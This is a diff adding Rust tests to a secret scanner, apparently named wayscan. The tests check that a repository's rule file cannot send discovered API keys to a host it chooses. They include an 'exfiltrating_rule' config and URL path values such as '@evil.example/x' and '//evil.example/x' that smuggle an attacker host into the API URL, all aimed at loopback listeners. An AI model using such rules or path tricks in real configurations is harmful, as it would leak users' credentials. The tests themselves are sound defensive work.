@@ -1,0 +1,83 @@
+//! Attacks by a scanned repository on the person running wayscan, each reproduced
+//! with a real repository and loopback listeners, and shown not to work.
+
+use crate::fake_api::{FakeApi, Reply};
+use crate::sandbox::Sandbox;
+use wayscan::testkeys::fake_key;
+
+/// A rule that finds WAYSCloud keys under another id and sends each to `path`.
+fn exfiltrating_rule(path: &str) -> String {
+    format!(
+        r#"[[rules]]
+id = "collector"
+name = "Collector"
+description = "finds keys"
+severity = "high"
+keywords = ["wayscloud_"]
+regex = '''(?P<secret>wayscloud_(?P<service>[a-z]+)_(?P<key_id>[a-z0-9]{{8}})_[A-Za-z0-9]{{16,}})'''
+properties = ["service", "key_id"]
+message = "key"
+remediation = "none"
+verify = {{ path = "{path}", checked_service = "storage" }}
+"#
+    )
+}
+
+/// `.wayscan.toml` names a rule file in the repository whose `verify.path` turns the
+/// API URL `http://127.0.0.1:API` into `http://127.0.0.1:API@127.0.0.1:ATTACKER/…`.
+/// The scan must refuse the rule file before any key is sent anywhere.
+#[test]
+fn a_project_rule_file_cannot_send_keys_to_a_host_it_chooses() {
+    let api = FakeApi::start(|_, _| Reply::status(200));
+    let attacker = FakeApi::start(|_, _| Reply::status(401));
+    let attacker_authority = attacker.url.trim_start_matches("http://").to_string();
+    let key = fake_key("storage", 201);
+
+    for path in [format!("@{attacker_authority}/collect"), "/v1/storage/".to_string()] {
+        let s = Sandbox::git_repo();
+        s.write("app.py", format!("KEY = '{key}'\n"));
+        s.write(".wayscan.toml", "rules = [\"ci/rules.toml\"]\n");
+        s.write("ci/rules.toml", exfiltrating_rule(&path));
+        s.commit("init");
+        for command in [&["scan", "."][..], &["history", "."][..]] {
+            let args = [command, &["--verify", "--api-url", &api.url]].concat();
+            let run = s.run(&args);
+            run.assert_stderr(2, "ci/rules.toml");
+            // The path is refused as a path first; a plain one for being in the project.
+            let why = if path.starts_with('@') {
+                "must start with a single '/'"
+            } else {
+                "may not have a verify or revoke section"
+            };
+            assert!(run.stderr.contains(why), "{}", run.stderr);
+            assert!(!run.stderr.contains(&key) && !run.stdout.contains(&key));
+        }
+    }
+    assert_eq!(attacker.seen(), vec![], "no request reached the other listener");
+    assert_eq!(api.seen(), vec![], "nothing was verified with a refused configuration");
+}
+
+/// The same rule on the command line is the user's own choice, but its path is still
+/// a path: anything a URL parser could read as another host is refused.
+#[test]
+fn an_api_path_that_could_name_another_host_is_refused_everywhere() {
+    let s = Sandbox::new();
+    for path in [
+        "@evil.example/x",
+        "//evil.example/x",
+        "v1/x",
+        "/v1/x?u=1",
+        "/v1\\x",
+        "/v1/#x",
+        "/../x",
+        "/v1/ x",
+    ] {
+        s.write("rules.toml", exfiltrating_rule(&path.replace('\\', "\\\\")));
+        let run = s.run(&["rules", "list", "--rules", "rules.toml"]);
+        run.assert_stderr(2, "API path");
+    }
+    s.write("rules.toml", exfiltrating_rule("/v1/storage/"));
+    let run = s.run(&["rules", "list", "--rules", "rules.toml"]);
+    assert_eq!(run.code, 0, "a plain path is accepted: {}", run.stderr);
+    assert!(run.stdout.contains("collector"), "{}", run.stdout);
+}
